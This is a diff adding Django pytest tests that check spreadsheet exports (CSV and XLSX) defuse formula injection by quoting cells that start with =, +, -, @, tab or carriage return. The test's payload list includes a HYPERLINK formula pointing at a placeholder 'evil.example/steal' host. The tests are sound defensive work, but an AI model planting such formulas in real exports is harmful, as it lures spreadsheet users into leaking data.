@@ -140,3 +140,77 @@ def test_dashboard_links_coordinators_to_the_cross_round_exports(client, persona
         page = client.get(dashboard).content.decode()
         assert "Exports across all rounds" not in page
         assert reverse("reports:export_all_scores") not in page
+
+
+# --- formula injection (OWASP "CSV injection") ---------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/steal","click")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\tTab first",
+    "\rCarriage return first",
+]
+
+
+@pytest.fixture
+def hostile_round(personas):
+    """A round whose texts start like formulas: proposals, the round title, the city's name."""
+    from reports.services import save_action_proposals
+
+    review_round, report = build_round(personas, publish=False)
+    save_action_proposals(
+        report=report,
+        rows=[
+            {"pk": None, "title": text, "priority": "low", "owner": text, "timeframe": "2027"}
+            for text in HOSTILE
+        ],
+    )
+    review_round.title = "=1+1 round"
+    review_round.save()
+    review_round.host_city.name = "@Tampere"
+    review_round.host_city.save()
+    return review_round
+
+
+def _every_export(review_round) -> list[tuple[str, str]]:
+    per_round = {"round_id": review_round.pk}
+    urls = [
+        reverse("reports:export_scores", kwargs=per_round),
+        reverse("reports:export_proposals", kwargs=per_round),
+        reverse("reports:export_all_scores"),
+        reverse("reports:export_all_proposals"),
+    ]
+    return [(url + f"?format={fmt}", fmt) for url in urls for fmt in ("csv", "xlsx")]
+
+
+@pytest.mark.django_db
+def test_no_export_cell_is_a_formula(client, personas, hostile_round):
+    """Every export, CSV and XLSX, per round and across rounds: text that starts like a
+    formula is read back as text with a leading quote, and no XLSX cell is a formula."""
+    client.force_login(personas.coordinator)
+    for url, fmt in _every_export(hostile_round):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        if fmt == "csv":
+            values = [value for row in _csv(response) for value in row]
+        else:
+            sheet = load_workbook(io.BytesIO(response.content)).active
+            cells = [cell for row in sheet.iter_rows() for cell in row]
+            assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
+            values = [cell.value for cell in cells]
+        texts = [value for value in values if isinstance(value, str) and value]
+        assert not [text for text in texts if text[0] in "=+-@\t\r"], url
+        assert "'=1+1 round" in texts and "'@Tampere" in texts, url
+        if "proposals" in url:
+            as_read = {text.replace("\r", "\n") for text in texts}  # XML reads a CR as a line feed
+            for text in HOSTILE:
+                assert "'" + text.replace("\r", "\n") in as_read, (url, text)
+
+
+def test_safe_cell_leaves_numbers_and_plain_text_alone():
+    from reports.exports import safe_cell
+
+    assert [safe_cell(v) for v in (-3, 2.5, None, "plain", "", "a=b")] == [-3, 2.5, None, "plain", "", "a=b"]
+    assert safe_cell("=A1") == "'=A1"
